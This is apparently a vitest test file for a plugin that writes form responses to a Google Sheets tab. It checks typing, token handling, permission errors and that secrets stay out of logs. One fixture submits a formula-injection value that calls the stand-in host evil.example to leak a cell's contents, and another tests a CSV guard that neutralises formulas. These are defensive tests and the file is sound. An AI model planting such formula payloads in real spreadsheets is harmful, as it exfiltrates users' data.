/** Rows as they stand in the spreadsheet: the plugin in its sandbox, the double of Google on a real port. */
import { expect, test } from 'vitest'
import { conformance } from 'manifold/plugin/testing'
import { FIELDS, HEADER, event, ids, names, scene } from './fake/scene.ts'
import type { Settings } from './fake/scene.ts'
import type { FakeSheets } from './fake/server.ts'

test('responses become one call: header by label, cells by type, no formula, no secret in any record', async () => {
  await using s = await scene()
  const { google, plugin } = s
  await plugin.submit('contact', {
    name: '=IMPORTDATA("https://evil.example/?"&B2)',
    budget: 12.5,
    news: true,
    due: '2026-02-01',
  })
  await plugin.submit('contact', { name: '+1', note: 'line one\nline two' })
  await plugin.advance('2s')
  expect((await plugin.deliveries()).map(({ state }) => state)).toEqual(['delivered', 'delivered'])
  const tab = google.spreadsheet.tab('Answers')
  expect(tab.rows[0]).toEqual(HEADER)
  const [first, second] = tab.records()
  expect(first).toMatchObject({
    'Your name': '=IMPORTDATA("https://evil.example/?"&B2)',
    Budget: 12.5,
    'News?': true,
    Due: 46_054,
  })
  expect(second).toMatchObject({ 'Your name': '+1', Budget: null, Note: 'line one\nline two' })
  expect(first?.['Delivery ID']).toEqual(expect.stringMatching(/^dlv_/))
  expect(Number(first?.['Submitted at'])).toBeGreaterThan(46_000)
  expect([...tab.formats].map(([column, { type }]) => [column, type])).toEqual([
    [1, 'DATE_TIME'],
    [5, 'DATE'],
  ])
  expect([google.count('token'), google.count('read'), google.count('write')]).toEqual([1, 1, 1])
  const left = JSON.stringify([plugin.exchanges(), plugin.logs(), plugin.runs, await plugin.kv.keys()])
  expect(google.tokens.all()).toHaveLength(1)
  for (const secret of [google.tokens.all()[0]!, google.keyFile['private_key']!.split('\n')[3]!]) {
    expect(left).not.toContain(secret)
  }
})

test('the happy path reads nothing but the header, a moment before each write', async () => {
  await using s = await scene()
  for (let n = 0; n < 5; n += 1)
    expect(await s.run({ n: 2 * n }, { n: 2 * n + 1 })).toMatchObject([{ outcome: 'delivered' }, {}])
  expect(names(s.google)).toEqual(Array.from({ length: 10 }, (_, n) => `n${n}`))
  expect([s.google.count('token'), s.google.count('read'), s.google.count('write')]).toEqual([1, 5, 5])
})

test('columns of the admin: templates, types, the time zone, and the guard for CSV', async () => {
  const columns = [
    { header: 'Who', value: '{{data.name}} of {{form.name}}' },
    { header: 'Money', value: '{{data.budget}}', type: 'number' },
    { header: 'When', value: '{{response.submitted_at}}', type: 'datetime' },
    { header: 'Odd', value: '{{data.note}}', type: 'number' },
    { header: 'Raw', value: '{{data.note}}' },
  ]
  await using s = await scene({ columns, csvGuard: true, timeZone: 'Asia/Tokyo', idHeader: 'Id' })
  await s.run({ n: 0, data: { name: '<b>&', budget: 7, note: '=1+1' } })
  const tab = s.google.spreadsheet.tab('Answers')
  expect(tab.rows[0]).toEqual(['Id', 'Who', 'Money', 'When', 'Odd', 'Raw'])
  // 1 July 2026, 19:00 in Tokyo.
  expect(tab.rows[1]?.slice(1)).toEqual(['<b>& of Contact', 7, 46_204 + 19 / 24, "'=1+1", "'=1+1"])
})

test('a token that ends is replaced within the run; a key that was deleted stops the installation and loses nothing', async () => {
  await using s = await scene()
  await s.run({ n: 0 })
  s.google.tokens.expireAll()
  expect(await s.run({ n: 1 })).toMatchObject([{ outcome: 'delivered' }])
  expect(names(s.google)).toEqual(['n0', 'n1'])
  s.google.tokens.revoke(s.google.keyFile['client_email']!)
  await s.plugin.submit('contact', { name: 'later' })
  await s.plugin.advance('2s')
  expect((await s.plugin.deliveries()).map(({ state }) => state)).not.toContain('dead')
  expect(s.plugin.state()).toBe('disabled')
  expect((await s.plugin.deliveries()).at(-1)?.error).toMatch(
    new RegExp(`invalid_grant.* The key is of the service account ${s.google.keyFile['client_email']}: `),
  )
})

test('a spreadsheet that is not shared: its address is named, and the delivery waits', async () => {
  await using s = await scene()
  s.google.editors.clear()
  const [got] = await s.run({ n: 0 })
  expect(got).toMatchObject({ message: expect.stringContaining(`not shared with ${s.google.keyFile['client_email']}`) })
  expect(got).toMatchObject({ message: expect.stringContaining('The caller does not have permission') })
})

test.each([
  [{ tab: 'Nothing' }, 'tab_missing', 'Unable to parse range'],
  [
    { spreadsheet: 'https://docs.google.com/spreadsheets/d/1thereIsNoSuchThing/edit#gid=0' },
    'not_found',
    'Requested entity was not found.',
  ],
  [{ timeZone: 'Mars/Base' }, 'config_invalid', 'Mars/Base'],
] as const)('settings that lead nowhere: %j', async (settings, code, words) => {
  await using s = await scene(settings)
  expect(await s.run({ n: 0 })).toMatchObject([{ outcome: 'dead', code, message: expect.stringContaining(words) }])
})

const REFUSED_READS: readonly (readonly [what: string, code: string, change: (google: FakeSheets) => unknown])[] = [
  ['an Excel file in Drive', 'not_a_spreadsheet', (google) => (google.isOfficeFile = true)],
  [
    'something Google does not take from the reader',
    'rejected',
    (google) =>
      (google.fault = ({ kind }) => (kind === 'read' ? { kind: 'status', status: 400, message: 'Odd.' } : null)),
  ],
]
test.each(REFUSED_READS)(
  '%s stops the installation at one dead letter, and the other rows wait',
  async (_, code, change) => {
    await using s = await scene()
    change(s.google)
    for (const name of ['Ada', 'Bob', 'Cid']) await s.plugin.submit('contact', { name })
    await s.plugin.advance('2h')
    const deliveries = await s.plugin.deliveries()
    expect(s.plugin.state()).toBe('disabled')
    expect(deliveries.map(({ state }) => state).filter((state) => state === 'dead')).toHaveLength(1)
    expect(deliveries.find(({ state }) => state === 'dead')?.errorCode).toBe(code)
  },
)

test('templates see what those of the other connectors see', async () => {
  const columns = [
    { header: 'Same', value: '{{& data.budget}}', type: 'number' },
    { header: 'All', value: '{{#answers}}{{label}}: {{value}}; {{/answers}}' },
    { header: 'From', value: '{{meta.source}}' },
    { header: 'Words', value: '{{labels.news}} {{texts.news}}, {{texts.due}}' },
  ]
  await using s = await scene({ columns })
  const asked = {
    ...(event(0, { budget: 7, name: 'Ada', news: true, due: '2026-02-01' }) as object),
    meta: { source: 'mail' },
  } as never
  await s.plugin.run('append', [{ event: asked }])
  expect(s.google.spreadsheet.tab('Answers').rows[1]?.slice(1)).toEqual([
    7,
    'Your name: Ada; Budget: 7; News?: true; Due: 2026-02-01; ',
    'mail',
    'News? Yes, 1 Feb 2026',
  ])
})

test('more than a request can hold goes in several, and a row that none can hold is a dead letter', async () => {
  await using s = await scene()
  const long = 'x'.repeat(49_000)
  const columns = Object.fromEntries(FIELDS.map(({ key }) => [key, long]))
  const outcomes = await s.run(...Array.from({ length: 8 }, (_, n) => ({ n, data: columns })))
  expect(outcomes.map(({ outcome }) => outcome)).toEqual(Array(8).fill('delivered'))
  expect(ids(s.google)).toHaveLength(8)
  expect(s.google.count('write')).toBe(3)
})

interface CheckCase {
  readonly what: string
  readonly settings?: Settings
  readonly change?: (google: FakeSheets) => unknown
  /** Level, place and some words of each finding. */
  readonly found: readonly (readonly [level: string, at: string | undefined, words: string])[]
}

const CHECKS: readonly CheckCase[] = [
  { what: 'all is well', found: [] },
  {
    what: 'not shared',
    change: ({ editors }) => editors.clear(),
    found: [['error', '/credentials', 'not shared with']],
  },
  {
    what: 'may only look',
    change: ({ editors, readers, keyFile }) => {
      readers.add(keyFile['client_email']!)
      editors.clear()
    },
    found: [['error', '/credentials', 'as an editor']],
  },
  {
    what: 'the key was deleted',
    change: ({ tokens, keyFile }) => tokens.revoke(keyFile['client_email']!),
    found: [['error', '/credentials', 'account not found']],
  },
  { what: 'no such tab', settings: { tab: 'Nothing' }, found: [['error', '/tab', 'There is no tab "Nothing"']] },
  {
    what: 'no such spreadsheet',
    settings: { spreadsheet: '1thereIsNoSuchThing' },
    found: [['error', '/spreadsheet', 'Requested entity was not found.']],
  },
  {
    what: 'an Excel file',
    change: (google) => (google.isOfficeFile = true),
    found: [['error', '/spreadsheet', 'must not be an Office file']],
  },
  {
    what: 'may be read, and takes no write whatever it is',
    change: (google) =>
      (google.fault = ({ kind }) => (kind === 'write' ? { kind: 'status', status: 400, message: 'Not here.' } : null)),
    found: [['error', '/spreadsheet', 'Not here.']],
  },
  {
    what: 'a zone that is none, before the first row',
    settings: { timeZone: 'Mars/Base' },
    found: [
      ['error', '/timeZone', 'Mars/Base'],
      ['info', undefined, 'will make the columns "Delivery ID"'],
    ],
  },
  {
    what: 'Google is down',
    change: (google) => (google.fault = ({ kind }) => (kind === 'token' ? null : { kind: 'status', status: 503 })),
    found: [['warning', undefined, '503']],
  },
  {
    what: 'a column that is gone',
    settings: { missingHeader: 'stop' },
    change: ({ spreadsheet }) => spreadsheet.tab('Answers').set(0, 2, 'Who'),
    found: [['error', '/missingHeader', '"Your name"']],
  },
  {
    what: 'a column that is gone, and is made again',
    settings: { missingHeader: 'recreate' },
    change: ({ spreadsheet }) => spreadsheet.tab('Answers').set(0, 2, 'Who'),
    found: [['info', '/missingHeader', '"Your name" are gone or renamed: they will be made again']],
  },
]

test.each(CHECKS)('check: $what', async ({ settings = {}, change = () => {}, found }) => {
  await using s = await scene(settings)
  await s.run({ n: 0 })
  change(s.google)
  const before = JSON.stringify(s.google.spreadsheet.tabs)
  const findings = await s.plugin.check()
  expect(findings.map(({ level }) => level)).toEqual(found.map(([level]) => level))
  for (const [index, [level, at, words]] of found.entries()) {
    expect(findings[index]).toMatchObject({ level, message: expect.stringContaining(words) })
    expect(findings[index]?.at ?? undefined).toBe(at)
  }
  expect(JSON.stringify(s.google.spreadsheet.tabs)).toBe(before)
})

test('conforms', async () => {
  await conformance(import.meta.dirname)
})
